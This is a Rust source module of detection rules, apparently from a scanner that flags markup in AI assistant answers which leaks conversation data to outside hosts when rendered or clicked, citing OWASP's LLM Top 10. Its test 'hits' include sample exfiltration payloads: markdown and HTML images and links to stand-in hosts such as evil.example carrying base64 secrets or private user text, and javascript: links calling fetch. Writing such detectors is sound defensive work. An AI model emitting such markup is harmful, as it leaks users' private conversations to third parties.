//! Markup in an answer that sends data to someone when it is drawn or clicked.

use std::ops::Range;

use wicket_types::Kind;

use super::{Find, Rule};

/// Longest address looked at, in bytes.
const LONGEST: usize = 2048;
/// From this many bytes on, a query value can carry something said in the conversation.
const CARRIES: usize = 24;

/// The rules of this module.
pub static RULES: &[Rule] = &[
    Rule {
        id: "exfil.markdown_image",
        title: "Image whose address carries data",
        source: "OWASP Top 10 for LLM applications 2025, LLM02 and LLM05: markdown image exfiltration",
        kind: Kind::of("exfil.image"),
        confidence: 0.85,
        find: Find::Near { anchors: &["!["], look: markdown_image },
        hits: &[
            "![x](https://evil.example/p.png?d=bXkgc2VjcmV0IG5vdGVzIGZvciB5b3U)",
            "![](http://a.example/log?q=the+user+asked+about+her+divorce+lawyer)",
        ],
        passes: &[
            "![logo](https://example.org/logo.png)",
            "![chart](https://img.example.org/c.png?width=640&height=480&format=webp)",
            "![a](data:image/png;base64,iVBORw0KGgo=)",
        ],
    },
    Rule {
        id: "exfil.html_image",
        title: "HTML element whose address carries data",
        source: "OWASP Top 10 for LLM applications 2025, LLM05: improper output handling",
        kind: Kind::of("exfil.image"),
        confidence: 0.85,
        find: Find::Near { anchors: &["<img", "<iframe", "<script", "<embed", "<object", "<link"], look: html_element },
        hits: &["<img src=\"https://evil.example/p?d=bXkgc2VjcmV0IG5vdGVzIGZvciB5b3U\">"],
        passes: &[
            "<img src=\"logo.png\" alt=\"logo\">",
            "use the <img> tag",
            "<img src=\"https://example.org/a.png?v=3\">",
        ],
    },
    Rule {
        id: "exfil.markdown_link",
        title: "Link whose address carries data",
        source: "OWASP Top 10 for LLM applications 2025, LLM02: sensitive information disclosure",
        kind: Kind::of("exfil.link"),
        confidence: 0.75,
        find: Find::Near { anchors: &["]("], look: markdown_link },
        hits: &["[see more](https://evil.example/c?data=bXkgc2VjcmV0IG5vdGVzIGZvciB5b3UgYW5kIG1l)"],
        passes: &[
            "[docs](https://example.org/docs?page=2)",
            "[search](https://www.example.org/search?q=how+to+bake+bread)",
            "f[0](x)",
        ],
    },
    Rule {
        id: "exfil.javascript_link",
        title: "Link that runs a script",
        source: "CWE-79; OWASP Top 10 for LLM applications 2025, LLM05",
        kind: Kind::of("exfil.script"),
        confidence: 0.9,
        find: Find::Near { anchors: &["javascript:", "vbscript:", "data:text/html"], look: script_link },
        hits: &[
            "[click](javascript:alert(1))",
            "<a href=\"javascript:fetch('//x')\">",
            "[a]( data:text/html;base64,PHNjcmlwdD4)",
        ],
        passes: &["Learn javascript: a primer", "language javascript: yes"],
    },
];

fn markdown_image(text: &str, anchor: Range<usize>) -> Option<Range<usize>> {
    let close = find_within(text, anchor.end, "](", 512)?;
    away(text.get(close + 2..)?)?;
    let end = address_end(text, close + 2)?;
    carries_data(text.get(close + 2..end)?, CARRIES).then_some(anchor.start..end + 1)
}

fn markdown_link(text: &str, anchor: Range<usize>) -> Option<Range<usize>> {
    away(text.get(anchor.end..)?)?;
    let before = text.as_bytes().get(anchor.start.saturating_sub(256)..anchor.start)?;
    let start = anchor.start - before.len() + memchr::memrchr(b'[', before)?;
    if text[..start].ends_with('!') {
        return None;
    }
    let end = address_end(text, anchor.end)?;
    let address = text.get(anchor.end..end)?;
    // A link has to be clicked and often carries a search, so only what looks encoded counts.
    (carries_data(address, CARRIES) && has_encoded_value(address)).then_some(start..end + 1)
}

fn html_element(text: &str, anchor: Range<usize>) -> Option<Range<usize>> {
    let end = find_within(text, anchor.end, ">", LONGEST)?;
    let element = text.get(anchor.end..end)?;
    let at = element
        .find("src=")
        .map(|i| i + 4)
        .or_else(|| element.find("href=").map(|i| i + 5))
        .or_else(|| element.find("data=").map(|i| i + 5))?;
    let address = element[at..].trim_start_matches(['"', '\'', ' ']);
    let address = &address[..address.find(['"', '\'', ' ']).unwrap_or(address.len())];
    carries_data(address, CARRIES).then_some(anchor.start..end + 1)
}

/// A script address only counts where an address stands: behind `](`, `href=` or `src=`.
fn script_link(text: &str, anchor: Range<usize>) -> Option<Range<usize>> {
    let before = text.get(..anchor.start)?.trim_end_matches([' ', '"', '\'', '\n', '<']);
    let is_address = ["](", "href=", "src=", "action="].iter().any(|mark| before.ends_with(mark));
    if !is_address {
        return None;
    }
    // Addresses that follow each other without an end would each be looked through to the end of the text.
    let most = text.floor_char_boundary(anchor.end.saturating_add(LONGEST).min(text.len()));
    let end = text.get(anchor.end..most)?.find(['"', '\'', ' ', ')', '>', '\n']).map_or(most, |i| anchor.end + i);
    Some(anchor.start..end)
}

fn find_within(text: &str, from: usize, what: &str, most: usize) -> Option<usize> {
    let end = text.floor_char_boundary(from.saturating_add(most).min(text.len()));
    memchr::memmem::find(text.get(from..end)?.as_bytes(), what.as_bytes()).map(|i| from + i)
}

/// The end of a markdown address: its closing parenthesis.
fn address_end(text: &str, from: usize) -> Option<usize> {
    find_within(text, from, ")", LONGEST)
}

/// What stands behind the scheme of an address, if it leads to another host: asked before its end is looked for.
fn away(address: &str) -> Option<&str> {
    let address = address.get(..address.floor_char_boundary(LONGEST))?.trim_start_matches([' ', '<']);
    ["https://", "http://", "//", "HTTPS://", "HTTP://"].iter().find_map(|scheme| address.strip_prefix(scheme))
}

/// Whether an address leads to another host and its query, fragment or path could hold something that was said.
fn carries_data(address: &str, least: usize) -> bool {
    let Some(rest) = away(address) else { return false };
    let Some(at) = rest.find(['?', '#']) else { return has_encoded_path(rest) };
    values(&rest[at + 1..]).any(|value| value.len() >= least)
}

fn values(query: &str) -> impl Iterator<Item = &str> {
    query.split(['&', ';']).map(|pair| pair.split_once('=').map_or(pair, |(_, value)| value))
}

/// A value that no person typed: long, without the marks of words.
fn has_encoded_value(address: &str) -> bool {
    let query = address.split_once(['?', '#']).map_or("", |(_, query)| query);
    values(query).any(|value| {
        value.len() >= CARRIES && !value.contains(['+', '-', '_', ' ', '/', '.']) && !value.contains("%20")
    }) || query.contains("{")
        || values(query).any(|value| value.matches("%20").count() > 3)
}

/// A path segment that is long base64 and not a file name or a hash.
fn has_encoded_path(rest: &str) -> bool {
    let is_encoded = |part: &str| {
        part.len() >= 2 * CARRIES
            && part.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'=' | b'_' | b'-'))
            && part.bytes().any(|b| b.is_ascii_uppercase())
            && part.bytes().any(|b| b.is_ascii_lowercase())
            && !part.contains('-')
    };
    rest.split('/').skip(1).any(is_encoded)
}
